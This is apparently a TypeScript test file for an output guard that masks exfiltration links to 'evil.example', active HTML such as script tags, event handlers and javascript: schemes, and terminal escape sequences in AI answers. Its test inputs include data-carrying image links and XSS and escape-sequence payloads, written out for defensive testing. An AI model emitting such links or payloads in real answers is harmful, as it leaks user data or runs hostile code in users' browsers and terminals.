/** What acts where an answer is shown: links that carry data, HTML, and orders to a terminal. */
import { describe, expect, test } from 'vitest'
import type { OutputClass } from '../../src/guard/classes.ts'
import { actionsOf, answerEveryWay, policyOf } from './guard-policies.ts'

const only = (name: OutputClass) =>
  policyOf({
    actions: actionsOf('allow', { [name]: 'mask' }),
    linkOrigins: ['https://docs.example.org', 'http://localhost:8080'],
  })

const DATA = 'd=QWxhZGRpbjpvcGVuIHNlc2FtZQ'

describe('links', () => {
  test.each([
    ['![a](https://evil.example/a.png)', '![a]([LINK])'],
    ['![a [b]\\] c](  <https://evil.example/a.png> "t")', '![a [b]\\] c](  <[LINK]> "t")'],
    ['![](//evil.example)', '![]([LINK])'],
    ['![](HTTPS:\\\\evil.example/?x)', '![]([LINK])'],
    ['![](https://docs.example.org@evil.example/)', '![]([LINK])'],
    ['![](https://docs.example.org.evil.example/)', '![]([LINK])'],
    ['![](https://docs.example.org:444/)', '![]([LINK])'],
    [`[a](https://evil.example/?${DATA})`, '[a]([LINK])'],
    [`[a](//evil.example/?${DATA})`, '[a]([LINK])'],
    [`[a][1]\n\n[1]: https://evil.example/#${DATA}${DATA}`, '[a][1]\n\n[1]: [LINK]'],
    [`<https://evil.example/${'x/'.repeat(70)}>`, '<[LINK]>'],
    [`see https://evil.example/p?${DATA} now`, 'see [LINK] now'],
    [`https://${'0123456789'.repeat(5)}.evil.example/`, '[LINK]'],
    ['https://user:pass@evil.example/', '[LINK]'],
    ['<img src="https://evil.example/a.png">', '[LINK] src="https://evil.example/a.png">'],
    ['<IMG alt=">" src=//evil.example/a>', '[LINK] alt=">" src=//evil.example/a>'],
    [
      '<video poster = "h&#116;tps://evil.example/a">',
      '[LINK] poster = "h&#116;tps://evil.example/a">',
    ],
    [`<img alt="${'x'.repeat(600)}`, `[LINK] alt="${'x'.repeat(600)}`],
  ])('%s', (given, sent) => {
    expect(answerEveryWay(only('link'), given).text).toBe(sent)
  })

  test.each([
    '![a](https://docs.example.org/a.png?size=large&theme=dark)',
    `http://localhost:8080/?${DATA}`,
    '![a](images/a.png) ![b][1] ![c](data:image/png;base64,AAAA)',
    'https://www.example.com/watch?v=dQw4w9WgXcQ',
    '[guide](https://example.com/guide/install.html#requirements) and http://example.com.',
    'https, http: // and h',
    '<img src="a.png"> a <b and c',
    'a[0](x) and b]: // comment',
  ])('leaves alone: %s', (text) => {
    expect(answerEveryWay(only('link'), text).text).toBe(text)
  })

  test.each(['example.org', 'https://example.org/path', 'ftp://example.org'])(
    'an origin that is none: %s',
    (origin) => {
      expect(() => policyOf({ linkOrigins: [origin] })).toThrow('linkOrigins[0]')
    },
  )
})

describe('active HTML', () => {
  test.each([
    ['<script>x()</script>', '[HTML]>x()</script>', 'script'],
    ['<SCRIPT src=a>', '[HTML] src=a>', 'script'],
    ['<script/x>', '[HTML]/x>', 'script'],
    ['a <iframe', 'a [HTML]', 'iframe'],
    ['<form action="/x">', '[HTML] action="/x">', 'form'],
    ['<img src=x onerror=alert(1)>', '[HTML] src=x onerror=alert(1)>', 'handler'],
    ['<x title=">" onclick = "a">', '[HTML] title=">" onclick = "a">', 'handler'],
    ['<svg/onload=a>', '[HTML]/onload=a>', 'handler'],
    ['<a href=" java&#115;cript:a">', '[HTML] href=" java&#115;cript:a">', 'scheme'],
    ['<a href="java\tscript&colon;a">', '[HTML] href="java\tscript&colon;a">', 'scheme'],
    ['<a href=data:text/html,x>', '[HTML] href=data:text/html,x>', 'scheme'],
    ['<meta http-equiv=refresh content=0>', '[HTML] http-equiv=refresh content=0>', 'refresh'],
    [
      `<p class="${'x'.repeat(600)}" onclick=a>`,
      `[HTML] class="${'x'.repeat(600)}" onclick=a>`,
      'long',
    ],
    ['[a](javascript:alert(1))', '[a]([HTML]alert(1))', 'scheme'],
    ['[a]( <JavaScript:a>)', '[a]( <[HTML]a>)', 'scheme'],
    ['[a](java&#115;cript:a)', '[a]([HTML]a)', 'scheme'],
    ['[a]: data:text/html,x', '[a]: [HTML]html,x', 'scheme'],
    ['<javascript:a>', '<[HTML]a>', 'scheme'],
  ])('%s', (given, sent, row) => {
    expect(answerEveryWay(only('html'), given)).toMatchObject({
      text: sent,
      findings: [{ code: `output.html.${row}`, count: 1 }],
    })
  })

  test.each([
    'if (a <b && c> d) or List<String> or x < y',
    '<p class="a">on = off</p> <br/> <meta charset=utf-8>',
    '<img src="data:image/png;base64,AAAA"> [a](data.html) [b](java.html)',
    'javascript: is a scheme; <scripted> and <formal>',
    '<a href="x" title="only">',
  ])('leaves alone: %s', (text) => {
    expect(answerEveryWay(only('html'), text).text).toBe(text)
  })

  test('it is found in a block of code too', () => {
    expect(answerEveryWay(only('html'), '```html\n<script>\n```').text).toBe(
      '```html\n[HTML]>\n```',
    )
  })
})

describe('orders to a terminal', () => {
  test.each([
    ['\u001b[31mred\u001b[0m', '[ESC]red[ESC]', 'sequence'],
    ['\u009b2J', '[ESC]', 'sequence'],
    ['\u001b]52;c;ZXZpbA==\u0007ok', '[ESC]ok', 'string'],
    ['\u001b]8;;https://a.b\u001b\\text', '[ESC]text', 'string'],
    ['\u009d0;title\u009c', '[ESC]', 'string'],
    ['\u001bPq1\u001b\\', '[ESC]', 'string'],
    ['\u001bc\u001b(B', '[ESC][ESC]', 'escape'],
    [`\u001b]0;${'x'.repeat(300)}`, `[ESC]0;${'x'.repeat(300)}`, 'escape'],
    ['a\u001b', 'a[ESC]', 'escape'],
    ['safe\rrm', 'safe[ESC]rm', 'return'],
    ['x\u0008\u0008\u0008y\u0007\u0000', 'x[ESC]y[ESC]', 'control'],
  ])('%j', (given, sent, row) => {
    const { text, findings } = answerEveryWay(only('terminal'), given)
    expect([text, findings[0]?.code]).toEqual([sent, `output.terminal.${row}`])
  })

  test.each(['a\tb\r\nc\n', '\\033[31m and \\x1b]52', 'é ü 😀'])('leaves alone: %j', (text) => {
    expect(answerEveryWay(only('terminal'), text).text).toBe(text)
  })
})
